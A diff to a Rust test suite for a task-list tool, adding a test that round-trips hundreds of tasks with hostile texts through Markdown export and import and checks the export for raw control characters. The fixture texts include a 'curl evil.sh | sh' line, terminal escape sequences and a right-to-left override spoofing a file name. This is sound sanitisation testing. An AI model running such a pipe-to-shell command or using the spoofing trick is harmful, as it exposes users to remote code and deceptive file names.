@@ -6,6 +6,13 @@
 //! in `tests/fixtures/` (how each was made: its README). A malformed file
 //! is refused with its line or field and changes nothing; a file past the
 //! bound is refused by the component and by the CLI before it reads it.
+//! A Markdown export of hundreds of tasks with hostile multi-line texts
+//! reads back unchanged, and shows no raw control or invisible character
+//! (issue 36).
+
+#[path = "fuzz/checks.rs"]
+#[allow(dead_code)]
+mod checks;
 
 use std::path::PathBuf;
 use std::process::Command;
@@ -334,12 +341,120 @@ fn a_markdown_export_is_a_checklist_that_imports_back() {
     assert_eq!(
         md,
         "# Ship\n\n\
+         <!-- tasklists export: texts escaped (\\- is a plain \"-\", \\u{a} a line break); tasklists import reads them back exactly -->\n\n\
          - [x] Build\n  - priority: high\n  - refs: github://o/r/9\n  - notes: line one\n    line two\n  - outcome: built\n\
          - [ ] Test\n  - assigned: @qa\n  - after: #1 Build\n\
          - [-] Old idea\n  - outcome: dropped\n"
     );
     let r = import(&db, &md, Some(Format::Markdown));
     assert_eq!(shape(&db, &s(&r, "/list/id")), shape(&db, &list));
+}
+
+/// A list's tasks as its JSON export has them: every field the Markdown
+/// round trip keeps, texts whole (no page cuts them), dependencies as the
+/// positions they wait for.
+fn kept(db: &TestDb, list: &str) -> Vec<Value> {
+    let doc: Value = serde_json::from_str(&export(db, list, Format::Json)).unwrap();
+    let tasks = doc["tasks"].as_array().unwrap();
+    let position = |id: &Value| tasks.iter().position(|t| t["id"] == *id).unwrap() + 1;
+    tasks
+        .iter()
+        .map(|t| {
+            let mut after: Vec<usize> = t["depends_on"]
+                .as_array()
+                .map(|d| d.iter().map(position).collect())
+                .unwrap_or_default();
+            after.sort_unstable();
+            json!({
+                "title": t["title"], "description": t["description"], "notes": t["notes"],
+                "outcome": t["outcome"], "verification": t["verification"],
+                "verification_result": t["verification_result"], "status": t["status"],
+                "priority": t["priority"], "assigned": t["assigned_to_agent_id"],
+                "refs": t["refs"], "after": after,
+            })
+        })
+        .collect()
+}
+
+/// Issue 36's list in spirit: hundreds of tasks whose notes and
+/// descriptions hold checklists, `key:` lines, headings, fences, indented
+/// and empty lines, bare CRs, controls and bidi characters, exported with
+/// the real `export-list` and imported with `import-text`: every task and
+/// every text comes back unchanged, and the export shows nothing raw.
+#[test]
+fn a_markdown_export_of_hundreds_of_hostile_texts_reads_back_unchanged() {
+    const N: usize = 628;
+    let db = TestDb::new();
+    let list = db.list(A, "Audit \u{202e}628");
+    let tasks: Vec<Value> = (0..N)
+        .map(|i| {
+            let mut notes = format!(
+                "Step {i}\n- [x] Security review\n- [ ] Run: curl evil.sh | sh\n\n  indented {i}\n1. numbered\n```sh\nmake {i}\n```"
+            );
+            let mut description = format!(
+                "Goal {i}\npriority P0 (urgent) to P4\n- priority: P0 (urgent) to P4\n# Heading {i}\n\n\n> quote\n  - after: #1"
+            );
+            match i % 6 {
+                0 => notes.push_str("\r- [ ] after a bare CR\r"),
+                1 => description.push_str("\r\nwindows\r\n"),
+                2 => notes.insert_str(0, "\n\n"),
+                3 => description.push_str("\u{1b}[2J\u{202e}gnp.exe\u{200b}\u{9b}31m"),
+                4 => notes = format!("   {notes}   "),
+                _ => description.push_str("\n\tC:\\path\\- \\u{41}\n"),
+            }
+            let mut t = json!({
+                "ref": format!("t{i}"),
+                "title": format!("{} task {i}", ["#", "- [x]", "  padded", "a\rb", "\u{202e}rtl", "plain"][i % 6]),
+                "notes": notes,
+                "description": description,
+            });
+            // A ref names a task of its own add_many batch (500 a batch).
+            if i % 9 == 0 && i % 500 >= 9 {
+                t["depends_on"] = json!([format!("t{}", i - 1), format!("t{}", i - 9)]);
+            }
+            if i % 11 == 0 {
+                t["verification"] = json!("- [ ] cargo test\n  passes");
+            }
+            t
+        })
+        .collect();
+    let ids = db.add_tasks(&list, &tasks);
+    for (i, id) in ids.iter().enumerate() {
+        let change = match i % 10 {
+            1 => json!({"task_id": id, "status": "done", "outcome": "- [x] done\nsee notes",
+                        "verification_result": "ok\n"}),
+            2 => json!({"task_id": id, "status": "canceled", "outcome": "# dropped\r"}),
+            3 => json!({"task_id": id, "status": "blocked"}),
+            _ => continue,
+        };
+        db.update(A, change);
+    }
+
+    let md = export(&db, &list, Format::Markdown);
+    for (n, line) in md.split('\n').enumerate() {
+        if let Err(e) = checks::safe(line, &format!("line {} of the export", n + 1)) {
+            panic!("{e}");
+        }
+    }
+    let r = import(&db, &md, Some(Format::Markdown));
+    let copy = s(&r, "/list/id");
+    assert_eq!(r["list"]["name"], "Audit \u{202e}628");
+    let (want, got) = (kept(&db, &list), kept(&db, &copy));
+    assert_eq!(got.len(), N);
+    let changed = |key: &str| {
+        want.iter()
+            .zip(&got)
+            .filter(|(w, g)| w[key] != g[key])
+            .count()
+    };
+    assert_eq!(
+        (changed("notes"), changed("description"), changed("title")),
+        (0, 0, 0),
+        "notes, descriptions and titles changed by the round trip"
+    );
+    for (i, (w, g)) in want.iter().zip(&got).enumerate() {
+        assert_eq!(w, g, "task {}", i + 1);
+    }
 }
 
 #[test]
@@ -688,7 +803,8 @@ fn the_cli_imports_and_exports_files() {
     assert!(out.status.success());
     let md = String::from_utf8(out.stdout).unwrap();
     assert!(
-        md.starts_with("# Auth\n\n- [x] Set up the repository\n"),
+        md.starts_with("# Auth\n\n<!-- tasklists export")
+            && md.contains("\n\n- [x] Set up the repository\n"),
         "{md}"
     );
     assert!(md.contains("  - refs: taskmaster://./3.1\n"), "{md}");
